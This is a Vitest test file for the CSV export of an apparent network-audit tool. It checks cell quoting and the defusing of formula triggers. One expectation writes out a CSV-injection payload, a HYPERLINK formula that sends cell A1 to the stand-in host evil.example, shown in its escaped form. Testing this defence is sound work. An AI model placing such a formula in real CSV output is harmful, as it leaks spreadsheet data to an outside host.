import { describe, expect, it } from 'vitest';
import { csvCell, renderCsv, renderCsvFiles } from '../../src/report/csv.js';
import { renderReport } from '../../src/report/index.js';
import { buildRichResult, FORMULA, HOSTILE } from '../helpers/report-sample.js';

/** Minimal RFC 4180 parser, to check the output round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; }
    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += ch;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

describe('csv cells', () => {
  it('neutralises formula triggers with a leading single quote', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+SUM(A1)')).toBe("'+SUM(A1)");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('  =1')).toBe("'  =1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('10.0.0.1')).toBe('10.0.0.1');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(FORMULA)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  });
});

describe('csv report', () => {
  const result = buildRichResult({ scanPorts: 50 });
  const text = renderReport(result, 'csv');
  const rows = parseCsv(text);
  const header = rows[0]!;
  const col = (name: string) => header.indexOf(name);

  it('has one row per finding item with its group id', () => {
    expect(header.slice(0, 8)).toEqual(['section', 'group', 'kind', 'proto', 'src', 'sport', 'dst', 'dport']);
    const body = rows.slice(1);
    expect(body.filter((r) => r[0] === 'unexpected')).toHaveLength(result.unexpected.length);
    // Two missing paths, then the two declared hosts nobody reached.
    expect(body.filter((r) => r[0] === 'missing').map((r) => [r[col('kind')], r[col('dst')]])).toEqual([
      ['host', '10.0.0.12'], ['host', '10.0.0.13'], ['silent-host', '10.0.0.12'], ['silent-host', '10.0.0.13'],
    ]);
    const silent = body.find((r) => r[col('kind')] === 'silent-host')!;
    expect(silent[col('group')]).toBe('');
    expect(silent[col('rule')]).toBe('sccm.client-to-sup.wsus');
    expect(silent[col('reason')]).toMatch(/^software update point 10\.0\.0\.12: declared in the site file, reached by nobody on its one rule \(sccm\.client-to-sup\.wsus\) between /);
    expect(body.filter((r) => r[0] === 'wanCache')).toHaveLength(5);
    expect(body.filter((r) => r[0] === 'informational')).toHaveLength(1);
    expect(body.every((r) => r.length === header.length)).toBe(true);
    const scanRow = body.find((r) => r[col('dport')] === '7')!;
    expect(scanRow[col('group')]).toBe('U1');
    expect(scanRow[col('kind')]).toBe('no-rule');
  });

  it('round-trips hostile values, neutralised', () => {
    const hostileRow = rows.find((r) => r[col('capture')] === HOSTILE)!;
    expect(hostileRow).toBeDefined();
    expect(hostileRow[col('community_id')]).toBe(`'${FORMULA}`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('writes one file per section on request', () => {
    const files = renderCsvFiles(result, 'audit');
    expect(files.map((f) => f.name)).toEqual(['audit-unexpected.csv', 'audit-missing.csv', 'audit-wan-cache.csv', 'audit-window-only.csv', 'audit-informational.csv', 'audit-unused-rules.csv', 'audit-decode.csv', 'audit-groups.csv']);
    const missing = parseCsv(files[1]!.content);
    expect(missing[0]![0]).toBe('group');
    expect(missing).toHaveLength(5);
    const groups = parseCsv(renderCsv(result, { section: 'groups' }));
    expect(groups.slice(1).map((g) => g[0])).toEqual(result.groups.unexpected.map((g) => g.id).concat(['M1', 'W1', 'W2', 'W3']));
  });
});
